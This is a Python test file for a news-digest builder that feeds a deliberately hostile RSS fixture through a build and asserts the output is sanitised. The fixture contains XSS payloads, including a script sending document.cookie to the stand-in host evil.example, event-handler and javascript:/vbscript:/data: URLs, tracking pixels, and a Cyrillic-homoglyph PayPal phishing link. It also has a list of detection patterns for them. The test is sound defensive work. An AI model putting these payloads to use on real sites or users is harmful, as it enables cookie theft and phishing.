"""A hostile feed through a full build: nothing active or tracking reaches the output."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

from digest.config import load_config
from digest.pipeline import build_and_write
from tests.conftest import write_config

HOSTILE = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>Hostile &lt;script&gt;alert(1)&lt;/script&gt;</title>
<link>javascript:alert(document.cookie)</link>
<item>
  <title>Click &lt;img src=x onerror=alert(1)&gt; here &lt;script&gt;steal()&lt;/script&gt;</title>
  <link>javascript:alert('link')</link>
  <description>&lt;p onclick="evil()"&gt;The council met today to approve the budget for
  next year.&lt;/p&gt;&lt;script&gt;document.location='https://evil.example/?c='+document.cookie
  &lt;/script&gt;&lt;p style="width: expression(alert(1))"&gt;The vote was close and the
  debate lasted four hours.&lt;/p&gt;&lt;img src="https://tracker.example/pixel.gif" width="1"
  height="1"&gt;&lt;iframe src="https://evil.example/frame"&gt;&lt;/iframe&gt;</description>
  <media:thumbnail url="https://tracker.example/t.gif" width="1" height="1"/>
</item>
<item>
  <title>Data URL story</title>
  <link>data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==</link>
  <content:encoded><![CDATA[<p>Officials said the bridge would reopen in March after
  repairs.</p><a href="vbscript:msgbox(1)">x</a><object data="evil.swf"></object>
  <svg onload="alert(1)"><circle r="1"/></svg><p>Traffic will return to normal
  then.</p>]]></content:encoded>
</item>
<item>
  <title>Homoglyph bank notice</title>
  <link>https://pаypal.com/login</link>
  <description>Your account needs attention. Please log in to confirm the details.</description>
</item>
</channel></rss>
"""

FORBIDDEN = [
    r"<script",
    r"javascript:",
    r"vbscript:",
    r"data:text/html",
    r"\bon(error|click|load)\s*=",
    r"expression\(",
    r"<iframe",
    r"<object",
    r"tracker\.example",
    r"evil\.example",
    r"pаypal",  # the Cyrillic "а" must not survive as a clickable host
]


def test_hostile_feed_is_neutralised(tmp_path: Path) -> None:
    (tmp_path / "hostile.xml").write_text(HOSTILE, encoding="utf-8")
    config = load_config(
        write_config(
            tmp_path,
            {"feeds": [{"path": "hostile.xml", "name": "Hostile", "full_text": "never"}]},
        )
    )
    output = build_and_write(config, now=dt.datetime(2026, 11, 26, tzinfo=dt.UTC))
    assert len(output.digest.items) == 3
    for part in (output.rendered.html, output.rendered.text):
        for pattern in FORBIDDEN:
            assert not re.search(pattern, part, re.IGNORECASE), pattern
    # The readable words survive, as text.
    assert "The council met today" in output.rendered.text
    assert "bridge would reopen" in output.rendered.text
    # Every remaining link is http(s).
    for href in re.findall(r'href="([^"]*)"', output.rendered.html):
        assert href.startswith(("https://", "http://", "mailto:")), href
    archive = (output.html_path.parent / "index.html").read_text(encoding="utf-8")
    assert "<script" not in archive.lower()
